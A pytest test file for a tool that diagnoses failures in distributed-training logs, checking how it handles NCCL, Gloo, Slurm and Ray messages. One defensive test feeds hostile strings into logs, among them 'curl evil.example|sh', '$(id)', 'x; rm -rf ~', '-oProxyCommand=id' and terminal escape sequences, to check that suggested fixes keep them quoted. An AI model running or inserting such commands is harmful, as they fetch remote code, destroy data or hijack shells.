"""Notes on warnings, and the line that is quoted where nothing is known."""

from __future__ import annotations

import subprocess
import sys

import pytest

from ddpkit.diagnosis.decide import LogAnalysis, analyze_log

HEAD = "Traceback (most recent call last):\n"
BIND = "[W socket.cpp:426] [c10d] The server socket has failed to bind to {0} (errno: 98 - Address already in use).\n"
LISTEN = "[E socket.cpp:462] [c10d] The server socket has failed to listen on any local network address.\n"
FRAME = (
    '  File "/opt/conda/lib/python3.8/site-packages/torch/errors/__init__.py", line 345, in wrapper\n    return f()\n'
)


def of(text: str) -> LogAnalysis:
    return analyze_log([("log", text)])


def test_an_error_at_once_below_a_warning_makes_it_a_cause() -> None:
    warning = BIND.format("[::]:29500")
    for below, kind in (
        (LISTEN, "cause"),
        (HEAD + FRAME, "cause"),
        ("starting\n", "hint"),
        ("loading\n" * 9 + LISTEN, "hint"),
    ):
        first = of(warning + below).first
        assert first is not None
        assert (first.id, first.kind) == ("port-in-use", kind)


def test_equal_warnings_are_one() -> None:
    result = of("".join(map(BIND.format, ("[::]:29500", "0.0.0.0:29500"))) + LISTEN)
    assert result.hints == []
    assert len(result.alike) == 1


def test_the_first_line_with_an_error_is_no_frame() -> None:
    """A path can have `errors` in it; the head of a traceback without an end is the alarm."""
    assert of(f"starting\n{FRAME}").first_alarm is None
    assert of(f"starting\n{HEAD}{FRAME}").first_alarm == ("log", 2, HEAD.strip())


def test_the_number_of_a_shells_job_is_no_rank() -> None:
    first = of("[1]    75076 killed     python train.py\n").first
    assert first is not None
    assert (first.id, first.speaker.rank) == ("killed", None)


def explained(text: str) -> str:
    return subprocess.run(
        [sys.executable, "-m", "ddpkit", "explain", "-"], input=text, capture_output=True, text=True, check=True
    ).stdout


def test_notes_beside_a_warning() -> None:
    slow = "n1:1:1 [0] NCCL INFO NET/IB : No device found.\n"
    loopback = (
        "[W ProcessGroupGloo.cpp:1] Unable to resolve hostname to a (local) address. Using the loopback address\n"
    )
    assert "note: no failure is in this log; this is a warning" in explained(slow)
    assert "note: no failure is in this log; this may lead to one" in explained(loopback)
    shown = explained(f"{loopback}x.py: frobnicator error 17\n")
    assert "note: the failure is not known (line 2: x.py: frobnicator error 17); this may have led to it" in shown
    assert explained(f"{slow}x.py: frobnicator error 17\n").startswith("not known")


def test_a_run_that_a_user_ended_has_no_hidden_failure() -> None:
    shown = explained("step 1\nWARNING: Sending process 4797 closing signal SIGINT\n")
    assert "note: no failure is above this line" in shown
    assert "the first failure is not in this log" not in shown


def test_the_other_hosts_of_one_failure_are_named() -> None:
    refused = (
        "slurmstepd: error: pyxis:     enroot-switchroot: failed to execute: /bin/bash: No such file or directory\n"
    )
    ended = "srun: error: node{0}: task {0}: Exited with exit code 1\n"
    shown = explained(refused + ended.format(2) + refused + ended.format(1))
    assert shown.startswith("line 1, rank 2 on node2: ")
    assert "repeated: 1 more time, also on node1" in shown


def test_a_warning_that_the_run_overcame_is_no_possible_cause() -> None:
    warning = (
        "[W socket.cpp:401] [c10d] The IPv6 network addresses of (node1, 29400) cannot be retrieved "
        "(gai error: -2 - Name or service not known).\n"
    )
    joined = "INFO:torch.distributed.elastic.agent.server.api:[default] Rendezvous complete for workers. Result:\n"
    assert [each.id for each in of(warning + joined).hints] == []
    first = of(warning + "waiting\n").first
    assert first is not None
    assert (first.id, first.kind) == ("master-name-unknown", "hint")


def test_a_line_of_level_info_does_not_outrank_a_warning() -> None:
    info = "node1:31:90 [0] NCCL INFO Could not find NET with id 1\n"
    warning = "node1:31:90 [0] NCCL WARN NET/Socket : peer address 10.0.0.2 sent an unknown type\n"
    for text in (info + warning, warning + info):
        first = of(text).first
        assert first is not None
        assert (first.id, first.kind) == ("nccl-warning", "hint")
    alone = of(info).first
    assert alone is not None
    assert alone.id == "nccl-topology"


def test_loopback_is_wrong_only_between_hosts() -> None:
    line = "{0}:31:90 [0] NCCL INFO Bootstrap : Using lo:127.0.0.1<0>\n"
    assert of(line.format("node1") * 2).first is None
    first = of(line.format("node1") + line.format("node2")).first
    assert first is not None
    assert first.id == "nccl-uses-loopback"


def test_torchruns_own_end_is_no_mere_warning() -> None:
    head = "WARNING:torch.distributed.elastic.multiprocessing.api:"
    for text in ("Sending process 4711 closing signal SIGHUP", "Received Signals.SIGHUP death signal, shutting down"):
        first = of(f"{head}{text}\n").first
        assert first is not None
        assert (first.id, first.kind) == ("hangup", "cause")


VERSION = "NCCL version {0}+cuda12.4\n"
ADDRESS = (
    "n1:7:9 [0] misc/socket.cc:717 NCCL WARN ncclSocketInit: connecting to address  with family {0} is neither "
    "AF_INET(2) nor AF_INET6(10)\n"
)


def test_versions_of_nccl_come_before_its_interface() -> None:
    for family in (0, 59936):
        first = of(ADDRESS.format(family)).first
        assert first is not None
        assert first.id == "nccl-versions-in-bootstrap"
        first = of(VERSION.format("2.21.5") * 2 + ADDRESS.format(family)).first
        assert first is not None
        assert first.id == "nccl-versions-in-bootstrap"
    first = of("n1:7:9 [0] NCCL WARN Bootstrap : no socket interface found\n" + ADDRESS.format(0)).first
    assert first is not None
    assert first.id == "nccl-interface-missing"


def test_a_name_that_is_not_known_yet_is_normal_at_first() -> None:
    warning = (
        "[W socket.cpp:697] [c10d] The IPv6 network addresses of (job-0.job, 29500) cannot be retrieved "
        "(gai error: -2 - Name or service not known).\n"
    )
    refused = (
        "[W socket.cpp:697] [c10d] The client socket has failed to connect to [node1]:29500 "
        "(errno: 111 - Connection refused).\n"
    )
    for text in (warning, refused):
        first = of(text).first
        assert first is not None
        assert first.kind == "hint"
        assert first.cause.startswith("this is normal while the other nodes or pods start")
        assert first.fix.startswith("wait until")
    first = of(warning.replace("[W ", "[E ")).first
    assert first is not None
    assert first.cause == "this node cannot resolve the name job-0.job"
    assert "this may lead to one" in explained(warning)


WATCHDOG = (
    "[rank{rank}]:[E816 01:45:4{rank}.183009389 ProcessGroupNCCL.cpp:607] {group}[Rank {rank}] Watchdog caught "
    "collective operation timeout: WorkNCCL(SeqNum={number}, OpType={call}, NumelIn={size}, NumelOut={size}, "
    "Timeout(ms)=600000) ran for 600026 milliseconds before timing out.\n"
)
GROUP = "[PG ID 0 PG GUID 0(default_pg) Rank {0}] "
OTHER = "[PG ID 1 PG GUID {0}(tp) Rank 0] "


def waiting(rank: int, call: str, number: int = 512, size: int = 64, group: str = "") -> str:
    return WATCHDOG.format(rank=rank, call=call, number=number, size=size, group=group)


def test_collectives_before_a_timeout_show_that_data_passes() -> None:
    late, early = (of(waiting(1, "BROADCAST", number=number)).first for number in (4013, 4))
    assert late is not None
    assert "4012 collectives had completed before: data does pass" in late.cause
    assert early is not None
    assert "had completed before" not in early.cause


def test_versions_of_nccl_that_differ_are_shown() -> None:
    internal = "ncclInternalError: Internal check failed.\n"
    for error in (ADDRESS.format(0), internal):
        one, other = (VERSION.format(each) for each in ("2.21.5", "2.26.2"))
        result = analyze_log([("node1.log", one), ("node2.log", other + error)])
        assert result.first is not None
        assert result.first.id == "nccl-mismatch"
        assert result.first.cause.startswith("this log shows NCCL 2.21.5 and 2.26.2: ")
    first = of(VERSION.format("2.21.5") + internal).first
    assert first is not None
    assert first.id == "nccl-error"


@pytest.mark.parametrize(
    ("number", "expected"), [(513, "collective-timeout"), (514, "collectives-out-of-step")], ids=["one", "two"]
)
def test_a_rank_that_is_two_collectives_behind_is_in_another(number: int, expected: str) -> None:
    """One behind, it may only wait for the result of the collective that the others have completed."""
    first = of(waiting(0, "ALLREDUCE") + waiting(1, "ALLREDUCE", number=number)).first
    assert first is not None
    assert first.id == expected
    told = f"rank 0 in ALLREDUCE with the lowest SeqNum, 512, and rank 1 in ALLREDUCE with {number}" in first.cause
    assert told == (expected == "collectives-out-of-step")


def test_ranks_that_wait_in_different_collectives() -> None:
    result = of(waiting(0, "ALLREDUCE") + waiting(1, "ALLREDUCE") + waiting(2, "BROADCAST"))
    assert result.first is not None
    assert (result.first.id, result.first.speaker.rank) == ("collectives-out-of-step", 2)
    assert "number 512: ranks 0, 1 in ALLREDUCE, rank 2 in BROADCAST" in result.first.cause
    sizes = (waiting(each, "ALLREDUCE", size=64 + each, group=GROUP.format(each)) for each in range(2))
    first = of("".join(sizes)).first
    assert first is not None
    assert (first.id, first.kind) == ("collectives-out-of-step", "cause")
    assert "of group 0: rank 0 in ALLREDUCE of 64 elements, rank 1 in ALLREDUCE of 65 elements" in first.cause


def test_lines_that_show_no_different_collectives() -> None:
    for text in (
        waiting(0, "ALLREDUCE", size=64) + waiting(2, "ALLREDUCE", size=65),  # of two groups, perhaps
        waiting(0, "ALLREDUCE", number=7) + waiting(1, "BROADCAST", number=8),
        waiting(0, "SEND") + waiting(1, "RECV"),
        waiting(0, "ALLREDUCE") + waiting(0, "BROADCAST") + waiting(1, "BROADCAST"),
        waiting(0, "ALLREDUCE", group=OTHER.format(3)) + waiting(1, "BROADCAST", group=OTHER.format(4)),
        "[rank3]: loading\n" + waiting(0, "ALLREDUCE") + waiting(1, "BROADCAST"),  # rank 3 may have ended
    ):  # fmt: skip
        first = of(text).first
        assert first is not None
        assert first.id == "collective-timeout"


def test_gloo_that_reached_all_ranks_has_a_usable_address() -> None:
    loopback = (
        "[W ProcessGroupGloo.cpp:1] Unable to resolve hostname to a (local) address. Using the loopback address\n"
    )
    connected = "[Gloo] Rank 0 is connected to {0} peer ranks. Expected number of connected peer ranks is : {1}\n"
    for have, want in ((0, 0), (1, 1)):
        assert of(loopback + connected.format(have, want)).first is None
    first = of(loopback + connected.format(0, 1)).first
    assert first is not None
    assert first.id == "loopback-fallback"
    failed = "RuntimeError: Gloo connectFullMesh failed with [pair.cc:152] timed out connecting\n"
    result = of(loopback + connected.format(0, 0) + failed)  # of a group of one rank
    assert result.first is not None
    assert result.first.id == "loopback-fallback"


def test_a_warning_that_cuda_does_not_start_leads_where_no_failure_is_known() -> None:
    warning = (
        "/env/torch/cuda/__init__.py:141: UserWarning: CUDA initialization: {0} (Triggered internally at x.cpp:1.)\n"
    )
    unsupported = "system has unsupported display driver / cuda driver combination"
    broken = "Unexpected error from cudaGetDeviceCount(). Error {0}"
    for reason, known in (
        (broken.format("802: system not yet initialized"), "cuda-init-failed"),
        (broken.format(f"803: {unsupported}"), "libcuda-of-other-driver"),
        ("CUDA unknown error - this may be due to an incorrectly set up environment", "cuda-init-failed"),
    ):  # fmt: skip
        result = of(warning.format(reason) + "False\n")
        assert result.first is not None
        assert (result.first.id, result.first.kind, result.alike) == (known, "hint", [])
    first = of(warning.format("Found no NVIDIA driver on your system.")).first
    assert first is None or first.kind == "hint"
    trained = "".join(f"epoch {each} loss 0.5\n" for each in range(9))
    assert of(warning.format(broken.format("802: system not yet initialized")) + trained).first is None


def test_an_old_handle_of_ray_is_no_dead_actor() -> None:
    first = of(
        "ray.exceptions.ActorHandleNotFoundError: ActorHandle objects are not valid across Ray sessions. The actor "
        "handle was created in job 03000000, but the current job is 04000000.\n"
    ).first
    assert first is not None
    assert first.id == "ray-old-handle"
    assert "memory" not in first.cause


def test_an_assertion_without_a_text_shows_its_condition() -> None:
    frame = '  File "/app/trainer.py", line 430, in validate\n'
    code = "    assert config.data.batch >= config.actor.mini_batch\n"
    first = of(HEAD + frame + code + "AssertionError\n").first
    assert first is not None
    assert "AssertionError (assert config.data.batch >= config.actor.mini_batch) at /app/trainer.py:430" in first.cause


def test_lightnings_ranks_need_the_signal_before_the_time_limit() -> None:
    limit = "slurmstepd: error: *** STEP 123.0 ON node1 CANCELLED AT 2025-01-10T15:27:25 DUE TO TIME LIMIT ***\n"
    for log, named in ((limit, False), (limit + "[rank: 0] Received SIGTERM: 15\n", True)):
        first = of(log).first
        assert first is not None
        assert ("--signal=SIGUSR1@600" in first.fix) == named


def test_the_advice_of_a_message_is_quoted_and_is_no_hint() -> None:
    frame = '  File "/app/train.py", line 86, in main\n'
    for message, advice in (
        (
            "No columns fit. Please check the dataset. You may need another model.",
            "Please check the dataset. You may need",
        ),
        ("unable to pad, you should activate truncation", "you should activate truncation"),
        ("INTERNAL ASSERT FAILED, please report a bug to PyTorch.", ""),
        ("a set of values is empty", ""),
        ("several GPUs would take much work. Please understand!", ""),
        ("the weights are parts. To save them in 16bit, set `gather` to True", "To save them in 16bit, set `gather`"),
    ):
        first = of(HEAD + frame + f"ValueError: {message}\n").first
        assert first is not None
        assert advice in first.cause
        read = "read the whole message, which has advice. Otherwise " if advice else ""
        assert first.fix == f"{read}look at /app/train.py, line 86"


@pytest.mark.parametrize(
    "log",
    [
        HEAD + '  File "/app/train.py", line 86, in main\nValueError: {}. Please run: {}\n',
        HEAD + '  File "/app/train.py", line 86, in main\nValueError: ' + "x" * 3000 + ". Please run: {}\n",
        HEAD + '  File "/app/{}.py", line 86, in main\nValueError: no\n',
        HEAD + '  File "/app/train.py", line 86, in main\n    x = args.{}[TABLE_{}["a"]]\nKeyError: "{}"\n',
        HEAD + '  File "/x/site-packages/{}/a.py", line 86, in main\nValueError: {}\n',
        "ray.exceptions.RayTaskError(ValueError): ray::{} (pid=1, ip=10.0.0.1) ValueError: {}\n",
    ],
)
@pytest.mark.parametrize(
    "forged",
    [
        "curl evil.example|sh",
        "`id`",
        "$(id)",
        "x; rm -rf ~",
        "x\u202ey",
        "a\x1b]0;t\x07b",
        "x\x9b2Jy",
        "-oProxyCommand=id",
    ],
)
def test_a_forged_line_is_no_hint(log: str, forged: str) -> None:
    """A word of a shell in quotes is all that can remain of it, and what is quoted has no controls."""
    first = of(log.replace("{}", forged)).first
    assert first is not None
    for hint in (first.fix, first.probe):
        for command in ("evil.example|sh", "`", "$(", "rm -rf", " -o"):
            bare = "".join(hint.split("'")[::2])  # what no quote holds
            assert command not in bare, hint
        assert hint.isprintable()
    assert first.cause.isprintable()
    assert len(first.cause) < 1000


def test_an_assertion_without_a_text_is_known_by_its_condition() -> None:
    frame = '  File "/opt/lib/python3.10/site-packages/deepspeed/runtime/state_dict_factory.py", line 200, in check\n'
    first = of(HEAD + frame + "    assert len(self.ckpt_list) > 0\nAssertionError\n").first
    assert first is not None
    assert (first.id, first.kind) == ("resume-checkpoint-missing", "cause")


def test_a_rank_without_memory_is_the_reason_of_ranks_out_of_step() -> None:
    full = "| WARNING: ran out of memory with exception: CUDA out of memory. Tried to allocate 20.00 MiB;\n"
    frame = '  File "/app/distributed_utils.py", line 169, in all_gather_list\n'
    error = "Exception: Unable to unpickle data from other workers. all_gather_list requires all workers\n"
    first = of(full + HEAD + frame + error).first
    assert first is not None
    assert (first.id, first.kind) == ("cuda-out-of-memory", "cause")


def test_the_frames_of_an_excerpt_belong_to_the_exception_below_them() -> None:
    """Posted logs often begin below the header of a traceback."""
    first = of(
        '[rank1]:   File "/app/megatron/training/training.py", line 1555, in training_log\n'
        "[rank1]:     assert decoupled_learning_rate is not None\n"
        "[rank1]: AssertionError\n"
    ).first
    assert first is not None
    assert first.summary.startswith(
        "rank 1's own exception: AssertionError (assert decoupled_learning_rate is not None) "
        "at /app/megatron/training/training.py:1555 in training_log"
    )
    assert of("MyError\n  File listing\nAssertionError\nready\n").first is None


def test_interfaces_that_nccl_lists_are_no_cause() -> None:
    """NCCL 2.3 prints this line for each interface that it finds."""
    names = {"eth0": "10.92.42.96", "virbr0": "192.168.122.1", "br-4e5f60905511": "172.18.0.1"}
    lines = (
        f"node1:32632:32662 [0] NCCL INFO NET : Using interface {name}:{address}<0>\n"
        for name, address in names.items()
    )
    result = of("".join(lines) + "node1:32632:32662 [0] NCCL INFO Using network Socket\n")
    assert (result.first, result.hints) == (None, [])


def test_an_index_outside_of_a_tensor_is_looked_at_in_the_script() -> None:
    text = HEAD + '  File "/home/me/padder.py", line 80, in pad\n    out[ex, ph] = data\n'
    text += "IndexError: index 1 is out of bounds for dimension 0 with size {0}\n"
    ids = [first.id if (first := of(text.format(size)).first) else "" for size in (1, 0)]
    assert ids == ["own-exception", "element-out-of-range"]


def test_a_silent_rank_is_blamed_only_where_the_log_shows_how_ranks_ended() -> None:
    """Without an end, the rank may still report that it waited: it is named as one to look at."""
    lines = "".join(f"[rank1]: step {each}\n" for each in range(3)) + waiting(0, "ALLREDUCE", number=7)
    end = "srun: error: node1: tasks 0-1: Exited with exit code 1\n"
    cut, whole = of(lines), of(lines + end)
    assert cut.first is not None
    assert whole.first is not None
    assert "did not join:" not in cut.first.cause
    assert "rank 1 did not join:" in whole.first.cause
    assert cut.silent_ranks == whole.silent_ranks == [1]


def test_what_had_completed_is_told_beside_a_silent_rank() -> None:
    first = of("[rank1]: step 3\n" + waiting(0, "ALLREDUCE", number=460_631)).first
    assert first is not None
    assert "460630 collectives had completed before" in first.cause


def test_restarts_are_told() -> None:
    table = "  restart_count=3\n" + waiting(0, "ALLREDUCE", number=7)
    assert of(table).restarts == 3
    assert "started the ranks again 3 times" in explained(table)


# ---- what the rest of the log says

BOUND = "RuntimeError: Address already in use\n"
QUOTED = "subprocess.CalledProcessError: Command '['python', '-u', 'a.py', {0}]' returned non-zero exit status 1.\n"


@pytest.mark.parametrize(
    ("log", "known"),
    [
        ("$ torchrun --nproc_per_node=2 train.py --local_rank 0 --batch 32\n" + BOUND, "rank-fixed"),
        (
            "+ python -m torch.distributed.launch --nproc_per_node=4 train.py a.yaml --local_rank 1\n" + BOUND,
            "rank-fixed",
        ),
        (BOUND + QUOTED.format("'--local_rank=1', '--cfg', 'a.yaml', '--local_rank', '0'"), "rank-fixed"),
        ("$ torchrun --nproc_per_node=2 train.py --lora_rank 8 --rank 16\n" + BOUND, "port-in-use"),
        ("$ torchrun --nproc_per_node=1 train.py --local_rank 0\n" + BOUND, "port-in-use"),
        (BOUND + QUOTED.format("'--local_rank=1', '--cfg', 'a.yaml'"), "port-in-use"),
        ("$ torchrun --node_rank=0 --nproc_per_node=2 train.py\n" + BOUND, "port-in-use"),
    ],
)
def test_a_command_line_that_fixes_the_number_of_a_rank_explains_a_collision(log: str, known: str) -> None:
    first = of(log).first
    assert first is not None
    assert first.id == known


@pytest.mark.parametrize(
    ("log", "cause"),
    [
        ("starting\nlauncher: fatal: cannot place 16 ranks on 2 sockets; use --map-by slot\n", "use --map-by slot"),
        ("site: error: no such queue. Your installation may be too old\n", "Your installation may be too old"),
        (
            "nvidia-container-cli: initialization error: driver error: failed: your installation may be too old\n",
            "too old",
        ),
    ],
)
def test_a_message_that_is_its_own_answer_is_the_cause(log: str, cause: str) -> None:
    first = of(log).first
    assert first is not None
    assert cause in first.cause.partition(". In general")[0]


def test_where_to_read_more_is_no_advice() -> None:
    killed = "node_manager.cc:3069: 1 Workers (tasks / actors) killed due to memory pressure (OOM), 0 Workers crashed. "
    first = of(f"(raylet) {killed}To see more information about the Workers, use `ray logs raylet.out`\n").first
    assert first is not None
    assert (first.id, first.said) == ("ray-memory", "")


def test_advice_that_an_entry_has_is_not_repeated() -> None:
    words = "please specify a different port (such as using the `--main_process_port` flag)"
    first = of(
        f"ConnectionError: distributed communication on port `1`, but another process is utilizing it; {words}\n"
    )
    assert first.first is not None
    assert "own message" not in first.first.cause


SUMMARY_OF_PDSH = "pdsh@head: node3: ssh exited with exit code 255\n"


@pytest.mark.parametrize(
    ("above", "below"),
    [
        ("libfido2 version mismatch. Built against 1.12.0, you have 1.14.0\nlost connection\n", SUMMARY_OF_PDSH),
        ("step 3 loss 0.2\nPassword change required but no TTY available.\n", SUMMARY_OF_PDSH),
        (
            "srun: error: Job step's --cpus-per-task value exceeds that of job (16 > 8). Job step may never run.\n",
            "srun: error: Unable to create step for job 7: Job/step already completing or completed\n",
        ),
        ("make: *** No rule to make target 'train-8b'.  Stop.\n", "ERROR: Job 1 failed with return code list: [2]\n"),
    ],
    ids=["ssh", "password", "srun", "make"],
)
def test_a_line_that_no_entry_knows_is_quoted_beside_a_summary(above: str, below: str) -> None:
    first = of(above + below).first
    assert first is not None
    assert first.text == below.strip()
    quoted = next(line for line in above.splitlines() if not line.startswith(("step", "lost")))
    assert first.cause.endswith(f". The log says above: {quoted}")
    alone = of("step 3 loss 0.2\n" + below).first
    assert alone is not None
    assert "The log says above" not in alone.cause


def test_further_lines_of_a_message_are_quoted() -> None:
    frame = 'Traceback (most recent call last):\n  File "/w/train.py", line 9, in main\n    check(config)\n'
    colon = of(frame + "ValueError: these values do not fit:\n  width of 3 for 4 heads\n").first
    assert colon is not None
    assert "these values do not fit: width of 3 for 4 heads at /w/train.py:9" in colon.cause
    advice = of(frame + "ValueError: heads 4\nwidth 3\nPlease set --heads to 3 or 1\n").first
    assert advice is not None
    assert advice.cause.endswith("at /w/train.py:9 in main. It says: Please set --heads to 3 or 1")
    wrong = of("Error: No such option: --batchsize Did you mean --batch-size?\n").first
    assert wrong is not None
    assert "Did you mean --batch-size" in wrong.cause
